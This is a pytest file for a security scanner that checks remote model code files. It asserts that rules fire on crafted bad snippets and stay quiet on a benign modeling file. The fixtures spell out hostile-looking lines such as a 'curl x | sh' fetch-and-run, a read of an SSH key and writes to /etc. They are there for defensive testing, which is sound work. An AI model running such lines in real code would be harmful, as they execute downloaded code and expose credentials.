"""Remote code: `ast` rules fire on crafted bad code; a realistic modeling file stays quiet."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from dflash_guard.scan import scan_paths
from dflash_guard.scan.code.remote_code import check_source
from dflash_guard.severity import Severity
from tests.support.scan_builders import write_json

BAD = {
    "DG-RC-PROCESS": "import subprocess\ndef f():\n    subprocess.run(['id'])\n",
    "DG-RC-NETWORK": "def f():\n    import requests\n    requests.get('http://x')\n",
    "DG-RC-DYNAMIC-CODE": "def f(s):\n    return eval(s)\n",
    "DG-RC-ENCODED-BLOB": (
        "import base64, marshal\ndef f(s):\n    return marshal.loads(base64.b64decode(s))\n"
    ),
    "DG-RC-CREDENTIALS": "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/key'))\n",
    "DG-RC-FS-WRITE": "def f():\n    open('/etc/x', 'w').write('1')\n",
}


def test_benign_modeling_file_has_no_medium_finding(benign_modeling: str) -> None:
    assert [
        f
        for f in check_source(benign_modeling.encode(), "dflash.py")
        if f.severity >= Severity.medium
    ] == []


def test_unreviewed_note_and_reviewed_by_sha256(tmp_path: Path, benign_modeling: str) -> None:
    (tmp_path / "dflash.py").write_text(benign_modeling)
    report = scan_paths([tmp_path])
    assert [(f.rule_id, f.severity) for f in report.findings] == [
        ("DG-RC-UNREVIEWED", Severity.low)
    ]
    digest = hashlib.sha256(benign_modeling.encode()).hexdigest()
    reviewed = scan_paths([tmp_path], reviewed_sha256=frozenset({digest}))
    assert "DG-RC-UNREVIEWED" not in {f.rule_id for f in reviewed.findings}
    assert reviewed.remote_code[0].sha256 == digest and reviewed.remote_code[0].reviewed


def test_renamed_reviewed_file_with_new_content_is_not_reviewed(
    tmp_path: Path, benign_modeling: str
) -> None:
    digest = hashlib.sha256(benign_modeling.encode()).hexdigest()
    (tmp_path / "dflash.py").write_text(benign_modeling + "\nX = 1\n")
    report = scan_paths([tmp_path], reviewed_sha256=frozenset({digest}))
    assert "DG-RC-UNREVIEWED" in {f.rule_id for f in report.findings}


@pytest.mark.parametrize("rule", sorted(BAD))
def test_each_rule_fires(rule: str) -> None:
    findings = check_source(BAD[rule].encode(), "bad.py")
    hits = [f for f in findings if f.rule_id == rule]
    assert hits and hits[0].severity >= Severity.medium and hits[0].line


def test_import_time_side_effects() -> None:
    module_level = "import os\nos.system('curl x | sh')\n"
    default_arg = "import os\ndef f(x=os.system('id')):\n    pass\n"
    decorator = "S = 'print'\n@eval(S)\ndef g():\n    pass\n"
    class_body = "class A:\n    exec(CODE)\n"
    for source in (module_level, default_arg, decorator, class_body):
        findings = check_source(source.encode(), "x.py")
        assert any(
            f.rule_id == "DG-RC-IMPORT-TIME-SIDE-EFFECT" and f.severity is Severity.critical
            for f in findings
        ), source


def test_aliases_and_computed_getattr() -> None:
    source = (
        "import os as o\nimport builtins\ndef f(n):\n    getattr(builtins, n)('1')\n"
        "    o.popen('id')\n"
    )
    rules = {f.rule_id for f in check_source(source.encode(), "x.py")}
    assert {"DG-RC-DYNAMIC-CODE", "DG-RC-PROCESS"} <= rules


def test_encoded_blob_constant_and_unparseable() -> None:
    blob = "QUFB" * 80
    assert any(
        f.rule_id == "DG-RC-ENCODED-BLOB" for f in check_source(f"X = '{blob}'\n".encode(), "x.py")
    )
    assert [f.rule_id for f in check_source(b"def (:\n", "x.py")] == ["DG-RC-UNPARSEABLE"]


def test_auto_map_missing_file_and_foreign_repo(tmp_path: Path, benign_modeling: str) -> None:
    (tmp_path / "modeling_dflash.py").write_text(benign_modeling)
    write_json(
        tmp_path / "config.json",
        {
            "auto_map": {
                "AutoModel": "modeling_dflash.DFlashDraftModel",
                "AutoConfig": "configuration_dflash.DFlashConfig",
                "AutoTokenizer": ["other-org/tok--tokenization_x.XTokenizer", None],
            }
        },
    )
    report = scan_paths([tmp_path])
    rules = {f.rule_id: f for f in report.findings}
    assert "configuration_dflash.py" in rules["DG-RC-MISSING"].message
    assert "other-org/tok" in rules["DG-RC-REMOTE-REPO"].message
    paths = {entry.path: entry for entry in report.remote_code}
    assert paths["modeling_dflash.py"].sha256
    assert not paths["other-org/tok--tokenization_x.py"].reviewed
    assert not paths["configuration_dflash.py"].reviewed


def test_imports_and_constants_are_not_import_time_actions() -> None:
    source = "import requests\nTOKEN_FILE = '~/.cache/huggingface/token'\n"
    rules = {f.rule_id for f in check_source(source.encode(), "x.py")}
    assert {"DG-RC-NETWORK", "DG-RC-CREDENTIALS"} <= rules
    assert "DG-RC-IMPORT-TIME-SIDE-EFFECT" not in rules


def test_writes_inside_the_folder_are_medium_outside_high() -> None:
    inside = check_source(b"def f():\n    open('cache.txt', 'w')\n", "x.py")
    outside = check_source(b"def f():\n    open('../../x', 'a')\n", "x.py")
    assert [f.severity for f in inside] == [Severity.medium]
    assert [f.severity for f in outside] == [Severity.high]


@pytest.mark.parametrize(
    ("depth", "message"),
    [(800, "nested too deeply to check"), (5000, "nested too deeply to parse")],
)
def test_deeply_nested_code_is_a_finding_not_a_crash(depth: int, message: str) -> None:
    findings = check_source(("x = a" + ".b" * depth).encode(), "m.py")
    assert [(f.rule_id, f.message) for f in findings] == [("DG-RC-UNPARSEABLE", message)]


def test_pyc_anywhere_in_the_folder_is_a_finding(tmp_path: Path, benign_modeling: str) -> None:
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "modeling.cpython-311.pyc").write_bytes(b"\xa7\r\r\n" + b"\0" * 12)
    (tmp_path / "modeling.py").write_text(benign_modeling)
    report = scan_paths([tmp_path])
    assert ("DG-EXECUTABLE", "__pycache__/modeling.cpython-311.pyc") in {
        (f.rule_id, f.file) for f in report.findings
    }
